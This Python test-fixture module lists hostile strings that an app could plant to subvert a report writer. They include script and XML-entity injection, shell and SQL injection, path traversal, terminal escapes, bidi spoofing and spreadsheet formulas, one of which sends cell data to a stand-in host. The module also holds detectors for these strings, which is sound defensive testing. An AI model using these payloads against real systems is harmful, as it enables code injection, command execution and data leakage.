"""What an app may plant in its label, its texts, its log lines and its file names, to steer whoever reads the report.

Each name says what it tries. A writer of ours is held against all of them: what comes out is text, whatever went in.
``HOSTILE`` has the short ones, ``LONG`` those of a million signs, ``FILE_NAMES`` what a folder may really hold.
"""

import re
from collections.abc import Iterable, Mapping

MILLION = 1_000_000
CANARY = "检测app"
"""Stands in every string: a writer that drops the whole text has not made it harmless, it has lost it."""

MARKUP: Mapping[str, str] = {
    "script": "<script>document.title='planted'</script>", "image that fails": "<img src=x onerror=\"document.title='planted'\">",
    "out of an attribute": '" onmouseover="document.title=\'planted\'" x="',
    "out of a single-quoted attribute": "' autofocus onfocus='document.title=1' x='",
    "out of a style": "</style><style>body{display:none}</style>", "out of a comment": "--><b id=planted>bold</b><!--",
    "out of a title": "</title><meta http-equiv=refresh content='0;url=http://planted.invalid/'>",
    "out of a table": "</td></tr></table><h1 id=planted>clear</h1>", "out of CDATA": "]]><planted/><![CDATA[",
    "vector graphics": "<svg onload=\"document.title='planted'\"><foreignObject/></svg>",
    "entity of XML": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hostname'>]>&b;",
    "entity of HTML": "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp;", "template": "{{ 7*7 }} {% for a in b %} ${7*7} #{7*7}",
    "address that runs": "javascript:document.title='planted'",
    "address that is asked for": "<link rel=stylesheet href=//planted.invalid/a.css><iframe src=//planted.invalid>",
    "processing instruction": "<?xml version='1.0'?><?xml-stylesheet href='planted.xsl'?>",
    "wiki of a tracker": "{code}{html}<b>x</b>{html}{code} !http://planted.invalid/a.png! [~admin] *bold*",
    "markdown": "[x](javascript:alert(1)) ![y](http://planted.invalid/a.png) | a | b |\n---\n# head",
}  # fmt: skip
BIDI: Mapping[str, str] = {
    "override": "\u202egnp.exe\u202c", "embedding left open": "\u202bfedcba", "isolates": "\u2067abc\u2066def\u2069\u2069",
    "marks": "a\u200eb\u200fc\u061cd", "invisible": "pay\u200bpal\u2060\ufeff\u00ad\u180e", "tags": "a\U000e0041\U000e007fb",
    "lines of Unicode": "first\u2028second\u2029third\u0085fourth",
}  # fmt: skip
CONTROL: Mapping[str, str] = {
    "colour of a terminal": "\x1b[31mred\x1b[0m",
    "terminal cleared": "\x1b[2J\x1b[H\x1bc",
    "title of a terminal": "\x1b]0;planted\x07",
    "link of a terminal": "\x1b]8;;http://planted.invalid\x1b\\here\x1b]8;;\x1b\\",
    "clipboard of a terminal": "\x1b]52;c;cGxhbnRlZA==\x07",
    "C1": "\x9b31mred\x9d0;planted\x9c\x84\x85",
    "all of C0": "".join(map(chr, range(0x20))) + "\x7f",
    "nothing in the middle": "before\x00after",
    "backspaces": "clear\b\b\b\b\bviolation",
    "line written over": "violation\rclear    ",
    "forged lines": 'a\r\nViolation: 0\n{"schema": 1, "outcome": "clear"}\n11-28 05:52:12.000 E AndroidRuntime: FATAL EXCEPTION: main',
}
UNICODE: Mapping[str, str] = {
    "high surrogate": "a\ud83db",
    "low surrogate": "a\ude00b",
    "surrogates the wrong way round": "\ude00\ud83d",
    "bytes that are no text": b"a\xff\xfe\x80b".decode("utf-8", "surrogateescape"),
    "no characters": "\ufffe\uffff\U0001fffe\ufdd0",
    "for private use": "\ue000\U000f0000",
    "stacked marks": "Z" + "\u0301\u0489" * 200,
    "joined": "👨\u200d👩\u200d👧\U0001f1e8\U0001f1f3",
    "right to left for real": "العربية עברית",
    "looks like another": "раурal ＡＢＣ",
    "above the first plane": "𠮷野家 \U0001d54f",
}
FORMULAS: Mapping[str, str] = {
    "equals": "=1+1", "plus": "+1+1", "minus": "-1+1", "at": "@SUM(1,1)", "tab": "\t=1+1", "return": "\r=1+1", "line end": "\n=1+1",
    "space": " =1+1", "command": "=cmd|'/c calc'!A1", "link": '=HYPERLINK("http://planted.invalid?x="&A1,"clear")',
    "data of the web": '=WEBSERVICE("http://planted.invalid")', "wide equals": "＝1+1", "wide plus": "＋1+1", "wide minus": "－1+1",
    "wide at": "＠SUM(1)", "next cell": '",=1+1,"', "next cell by semicolon": "a;=1+1", "next row": '"\r\n=1+1,"', "apostrophe": "'=1+1",
    "after what is not seen": "\u200b=1+1",
}  # fmt: skip
COMMANDS: Mapping[str, str] = {
    "shell": "$(touch planted) `touch planted`; touch planted & | > planted", "format": "%s %n %d {0} {name} {0.__class__}",
    "path": "../../../../planted", "path of Windows": "..\\..\\planted C:\\planted \\\\planted\\share", "option": "--planted -rf",
    "query": "'; DROP TABLE bugs; --", "markup of rich": "[red]clear[/red] [link=http://planted.invalid]x[/link] [/]",
    "null device": "CON NUL aux.txt",
}  # fmt: skip


def _with_canary(kind: str, strings: Mapping[str, str]) -> dict[str, str]:
    """Behind a formula the canary, which has to begin its cell; before all others."""
    return {f"{kind}: {name}": text + CANARY if kind == "formula" else CANARY + text for name, text in strings.items()}


HOSTILE: Mapping[str, str] = (
    _with_canary("markup", MARKUP)
    | _with_canary("bidi", BIDI)
    | _with_canary("control", CONTROL)
    | _with_canary("unicode", UNICODE)
    | _with_canary("formula", FORMULAS)
    | _with_canary("command", COMMANDS)
)
LONG: Mapping[str, str] = {
    "one word": CANARY + "A" * MILLION,
    "Chinese": CANARY + "权限" * (MILLION // 2),
    "markup that opens": CANARY + "<b>" * (MILLION // 3),
    "quotes": CANARY + '"' * MILLION,
    "lines": CANARY + "a\n" * (MILLION // 2),
    "controls": CANARY + "\x1b[31m" * (MILLION // 5),
}
FILE_NAMES: tuple[str, ...] = (
    "<img src=x onerror=1>.png", "\u202egnp.exe", "a\nb.txt", "=1+1.csv", "-rf", "a b;c&d$(e).png", "'\".png", "\x1b[31m.png",
    "截图 一.png", "a" * 200 + ".png",
)  # fmt: skip
"""Each is one name that Linux keeps; none leads out of its folder."""

STEERS = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f"
    "\ufeff\ufffe\uffff\ud800-\udfff\U000e0000-\U000e0fff]"
)
"""Signs that may stand in no file and on no terminal as they are."""
FORMULA_BEGINS = tuple("=+-@\t\r\n＝＋－＠")
"""A cell that begins with one of these is run by a spreadsheet; the wide ones where Chinese or Japanese is typed."""


def steering(text: str) -> list[str]:
    """The signs of a written text that steer its reader, for a test to find none; a byte order mark may begin it."""
    return STEERS.findall(text.removeprefix("\ufeff"))


def formulas(cells: Iterable[str]) -> list[str]:
    """The cells that a spreadsheet would run, whatever space or unseen sign stands before."""
    return [cell for cell in cells if cell.lstrip(" \u200b\u200c\u200d").startswith(FORMULA_BEGINS)]


def in_order() -> tuple[str, ...]:
    """Every short string, in the order of their names."""
    return tuple(HOSTILE[name] for name in sorted(HOSTILE))
